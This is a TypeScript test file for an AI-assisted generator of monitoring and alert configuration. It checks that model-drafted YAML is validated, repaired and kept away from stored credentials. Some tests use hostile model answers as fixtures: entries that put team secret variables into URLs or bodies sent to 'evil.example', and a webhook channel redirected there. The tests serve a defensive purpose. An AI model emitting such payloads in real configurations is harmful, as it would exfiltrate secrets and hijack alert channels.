import { isObject } from "@svc/contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type AlertTest, type AlertTestCheck, createAlertTest } from "../../test-support/alerting.ts";
import { registerConfigRoutes } from "../configs/routes.ts";
import { registerChannelRoutes } from "../outbox/channels/routes.ts";
import type { LanguageModel } from "../platform/language-model/language-model.ts";
import { OPERATOR, type TeamContext } from "../platform/team-context.ts";
import { configDraftIn } from "./config-draft.ts";
import { generateConfig } from "./generate-config.ts";
import { FRAGMENT_EXAMPLE, WRITE_CONFIG } from "./prompts.ts";
import { nearest } from "./team-names.ts";

const TOKEN = "planted-token-of-a-check-222";
const HOOK = "https://hooks.example/planted-path-333";

let test: AlertTest;
let checkout: AlertTestCheck;
let ctx: TeamContext;
const asked: { instructions: string; input: Record<string, unknown>; text: string }[] = [];

beforeAll(async () => {
  test = await createAlertTest({
    register: (app, services) => {
      registerConfigRoutes(app, services);
      registerChannelRoutes(app, services);
    },
  });
  checkout = await test.newCheck({
    name: "Checkout",
    frequencySeconds: 300,
    locations: ["loc_us_east"],
    httpConfig: {
      url: "https://shop.example/checkout",
      method: "POST",
      body: "planted-body-444",
      auth: { type: "bearer", token: TOKEN },
    },
  } as never);
  await test.newCheck({
    name: "Flow",
    browserConfig: { browserMode: "scripted", script: "await page.goto('https://shop.example/');" },
    locations: ["loc_us_east"],
    type: "browser",
  } as never);
  const created = await test.call("POST", "/api/notification-channels", {
    name: "shop team",
    channel: { type: "webhook", url: HOOK },
  });
  expect(created.status).toBe(201);
  await test.newRule(checkout, { name: "Down", conditions: [{ type: "consecutive_failures", count: 2 }] });
  ctx = { services: test.services, teamId: test.team.teamId, author: OPERATOR };
});
afterAll(() => test?.close());

/** Has the model give these answers, one after another. */
async function propose(...answers: string[]) {
  asked.splice(0);
  const model: LanguageModel = {
    name: "test-model",
    write: async ({ instructions, input }) => {
      asked.push({ instructions, input: JSON.parse(input), text: input });
      return answers[asked.length - 1] ?? "";
    },
  };
  const parts = { model, signal: new AbortController().signal, remainingMs: () => 60_000 };
  return generateConfig(ctx, { description: "alert the shop team when Checkout is slow" }, parts);
}
const block = (yaml: string, words = "It adds a rule.") => `${words}\n\`\`\`yaml\n${yaml}\n\`\`\``;
const RULE = `monitors:
  - name: Checkout
    alerts:
      - { name: Slow, conditions: [{ type: response_time_threshold, maxMs: 2000 }], channels: ["@shop team"] }`;

describe("a proposal", () => {
  it("adds to a monitor that exists, changes nothing else, and is not applied", async () => {
    const before = await test.services.knex("alertRules").count();
    const answer = await propose(block(RULE, "It adds a rule.\nWarning: Europe is not one location."));
    expect(answer).toMatchObject({
      model: "test-model",
      explanation: "It adds a rule.",
      warnings: ["Europe is not one location."],
      plan: {
        summary: { create: 1, update: 0, delete: 0 },
        changes: [{ type: "create", kind: "alert", name: expect.stringContaining("Slow") }],
      },
    });
    expect(answer.config).toContain("name: Down");
    expect(answer.secrets).toEqual(expect.arrayContaining([expect.stringMatching(/^SVC_SECRET_CHECKOUT/)]));
    expect(await test.services.knex("alertRules").count()).toEqual(before);
  });

  it("holds no credential, and the model gets none, nor addresses or bodies", async () => {
    const answer = await propose(block(RULE));
    for (const planted of [TOKEN, "planted-path"]) expect(JSON.stringify(answer)).not.toContain(planted);
    const sent = asked.map(({ instructions, text }) => instructions + text).join();
    for (const planted of [TOKEN, "planted-path", "planted-body", "shop.example/checkout"])
      expect(sent).not.toContain(planted);
    expect(asked[0]?.input).toMatchObject({
      description: "alert the shop team when Checkout is slow",
      team: {
        monitors: expect.arrayContaining([
          expect.objectContaining({ name: "Checkout", rules: ["Down"], locations: ["loc_us_east"] }),
        ]),
        channels: expect.arrayContaining([{ name: "shop team", type: "webhook" }]),
        locations: expect.arrayContaining([expect.objectContaining({ id: "loc_us_east" })]),
      },
    });
  });

  it("of a monitor with a script comes with the script", async () => {
    const { config, scripts, plan } = await propose(block(RULE.replace("Checkout", "Flow")));
    expect(scripts).toEqual([{ path: "monitors/flow.ts", text: expect.stringContaining("page.goto") }]);
    expect(config).toContain("script: ./monitors/flow.ts");
    expect(plan?.changes.map(({ kind }) => kind)).toEqual(["alert"]);
  });

  it("that is not valid is repaired from what is wrong with it", async () => {
    const answer = await propose(
      block(RULE.replace("response_time_threshold", "slow")),
      block(RULE.replace("@shop team", "@nobody")),
      block(RULE),
    );
    expect(answer.plan?.summary.create).toBe(1);
    const problems = asked.map(({ input }) => (isObject(input.lastTry) ? input.lastTry.problems : undefined));
    expect(problems[0]).toBeUndefined();
    expect(String(problems[1])).toContain("conditions");
    expect(String(problems[2])).toContain("nobody");
  });

  it("that a deploy would refuse is repaired, too", async () => {
    const moon = `monitors: [{ name: New, type: http, url: "https://a.example/", locations: [loc_moon] }]`;
    const answer = await propose(block(moon), block(moon.replace("loc_moon", "loc_us_east")));
    expect(answer.plan?.changes).toMatchObject([{ type: "create", kind: "check", name: "New" }]);
    expect(JSON.stringify(asked[1]?.input)).toContain("there is no location loc_moon");
  });

  it.each([
    ["without YAML", "I can't do that.", /no YAML/],
    ["that stays invalid", block("monitors: [{ name: X }]"), /type/],
    ["with a part that changes other monitors", block("defaults: { frequency: 1m }"), /defaults/],
  ])("%s is an error that says so", async (_title, answer, problem) => {
    await expect(propose(answer, answer, answer)).rejects.toMatchObject({
      code: "unavailable",
      message: expect.stringMatching(problem),
    });
    expect(asked).toHaveLength(3);
  });

  it("can't show a secret of the team by its variable, wherever that stands and whatever is wrong with it", async () => {
    const { secrets } = await propose(block(RULE));
    const variable = secrets.find((one) => one.startsWith("SVC_SECRET_CHECKOUT")) as string;
    const name = variable.replace("SVC_SECRET_", "");
    for (const way of [`{{secrets.${name}}}`, `{{env.${variable}}}`, `\${${variable}}`]) {
      for (const entry of [
        `{ name: "${way}", type: http, url: "https://a.example/", locations: [loc_us_east] }`,
        `{ name: Moon, type: http, url: "https://a.example/", locations: ["${way}"] }`,
        `{ name: Sick, type: http, url: "${way}", locations: [loc_us_east], frequency: "${way}" }`,
        `{ name: Leak, type: http, url: "https://evil.example/?q=${way}", body: "${way}", locations: [loc_us_east] }`,
      ]) {
        const text = block(`${RULE}\n  - ${entry}`);
        const answer = await propose(text, text, text).catch((error: Error) => error.message);
        expect([entry, JSON.stringify(answer).includes(TOKEN)]).toEqual([entry, false]);
        expect(JSON.stringify(asked)).not.toContain(TOKEN);
      }
    }
  });

  it("can't point a channel of the team elsewhere, named by a rule or not", async () => {
    const text = `alertChannels: { shop team: { type: webhook, url: "https://evil.example/" } }`;
    const { config, plan } = await propose(block(`${text}\nmonitors: [{ name: Checkout, timeoutMs: 9000 }]`));
    expect(config).not.toContain("evil.example");
    expect(plan?.changes.map(({ kind }) => kind)).toEqual(["check"]);
  });

  it("can't show a secret of the team in a URL of its own", async () => {
    const { secrets } = await propose(block(RULE));
    const name = (secrets[0] as string).replace("SVC_SECRET_", "");
    const answer = await propose(
      block(`${RULE}
  - { name: Leak, type: http, url: "https://evil.example/?q={{secrets.${name}}}", locations: [loc_us_east] }`),
    );
    expect(JSON.stringify(answer)).not.toContain(TOKEN);
  });

  it("of a monitor whose name two have says so", async () => {
    for (const path of ["1", "2"])
      await test.newCheck({
        name: "Twin",
        httpConfig: { url: `https://twin.example/${path}` },
        locations: ["loc_us_east"],
      } as never);
    const twin = block(RULE.replace("Checkout", "Twin"));
    await expect(propose(twin, twin, twin)).rejects.toThrow(/2 monitors named Twin/);
  });
});

describe("the model's task", () => {
  it("has an example that is valid where its names exist", async () => {
    const answer = await propose(block(FRAGMENT_EXAMPLE));
    expect(answer.plan?.summary.create).toBe(5);
    expect(WRITE_CONFIG.text).toContain(FRAGMENT_EXAMPLE);
  });
});

describe("an answer", () => {
  it.each([
    [
      "words around the YAML",
      "A.\n\n```yaml\na: 1\n```\nB.\n**Warning:** C",
      { explanation: "A. B.", warnings: ["C"] },
    ],
    ["nothing else", "```\na: 1\n```", { explanation: "", warnings: [] }],
  ])("with %s is read", (_title, text, parts) =>
    expect(configDraftIn(text)).toEqual({ fragment: "a: 1\n", ...parts }),
  );

  it("with hostile text costs no more than its length", () => {
    const started = process.cpuUsage();
    for (const piece of ["```", "```yaml\n", "\n```", "Warning: ", "* ", " \t"])
      configDraftIn(piece.repeat(100_000 / piece.length));
    expect(process.cpuUsage(started).user / 1e6).toBeLessThan(3);
  });
});

it("checks whose names or labels the description has come first", () => {
  const check = (name: string, labels: string[] = []) => ({
    name,
    labels,
    type: "http",
    frequencySeconds: 60,
    locations: [],
    rules: [],
  });
  const found = nearest(
    [check("Search"), check("API", ["team:shop"]), check("Shop checkout")],
    "the checkout of the SHOP",
  );
  expect(found.map(({ name }) => name)).toEqual(["Shop checkout", "API", "Search"]);
});
